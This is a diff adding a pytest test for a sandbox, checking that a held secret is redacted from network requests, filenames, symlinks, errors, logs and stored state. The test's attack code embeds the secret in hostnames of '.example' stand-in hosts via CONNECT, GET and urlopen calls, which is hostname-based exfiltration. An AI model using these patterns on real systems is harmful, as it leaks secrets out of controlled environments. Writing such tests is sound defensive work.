@@ -13,10 +13,12 @@ import pytest
 
 from sandbox.cli.wiring import controller
 from sandbox.config import Settings
-from sandbox.errors import ConfigError
-from sandbox.sessions import Caller, SessionManager
+from sandbox.errors import ConfigError, FileError
+from sandbox.sessions.manager import SessionManager
+from sandbox.sessions.models import Caller
 
 from .conftest import RUNTIME, Attacked
+from .inside import connect, status, through
 
 pytestmark = pytest.mark.anyio
 
@@ -208,6 +210,52 @@ async def test_the_record_the_journal_and_the_log_have_no_secret(
     for value in (GIVEN, HELD, json.dumps(GIVEN)[1:-1]):
         assert not [path for path, data in kept.items() if value.encode() in data]
         assert value not in caplog.text
+
+
+async def test_a_secret_as_a_name_is_told_nowhere(
+    keyed: Attacked, place: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Policy rule secrets: as a host, a file's name, a link's target, in an error and in a change
+    it is taken out where it leaves the session, for every front and record."""
+    caplog.set_level(logging.DEBUG)
+    half, rest = HELD[:8], HELD[8:]  # the value stands in no code that a caller sends
+
+    def name(half: str, rest: str) -> object:
+        import os
+
+        value = half + rest
+        os.symlink(f"/nowhere/{value}", "link")
+        open(f"a-{value}.txt", "w").close()
+        asked = (
+            connect(f"{value}.example:443"),
+            connect(f"{value}.vendor.example.com:443"),
+            f"GET http://{value}.example/ HTTP/1.1\r\nHost: {value}.example\r\n\r\n".encode(),
+            f"GET http://{value}_%/ HTTP/1.1\r\n\r\n".encode(),
+        )
+        return [status(through(request)) for request in asked]
+
+    assert await keyed.attack(name, half, rest) == [403, 403, 403, 400]
+    cell = await keyed.cell(
+        f"import urllib.request as u; u.urlopen('https://' + {half!r} + {rest!r} + '.example')"
+    )
+    told: list[object] = [cell.model_dump(), keyed.session.info().model_dump()]
+    async with keyed.session.use():
+        files = keyed.session.files
+        told += [await files.list(), await files.stat("link")]
+        await files.write("text", b"one")
+        told.append(await files.edit("text", "one", HELD))
+    with pytest.raises(FileError) as caught:
+        async with keyed.session.use():
+            await keyed.session.files.stat(f"absent-{HELD}")
+    told += [str(caught.value), caught.value.message]
+    completed = await keyed.session.kernels.complete(f"'a-' + {half!r}")
+    told.append(completed.model_dump())
+    kept = [path.read_bytes() for path in (place / "state").rglob("*") if path.is_file()]
+    assert str(told).count("[secret held]") >= 8
+    assert HELD.lower() not in str(told).lower()
+    assert not [data for data in kept if HELD.lower().encode() in data.lower()]
+    assert any(b"[secret held].vendor.example.com" in data for data in kept)
+    assert HELD.lower() not in caplog.text.lower()
 
 
 async def test_a_neighbour_has_neither_the_file_nor_the_value(keeper: SessionManager) -> None:
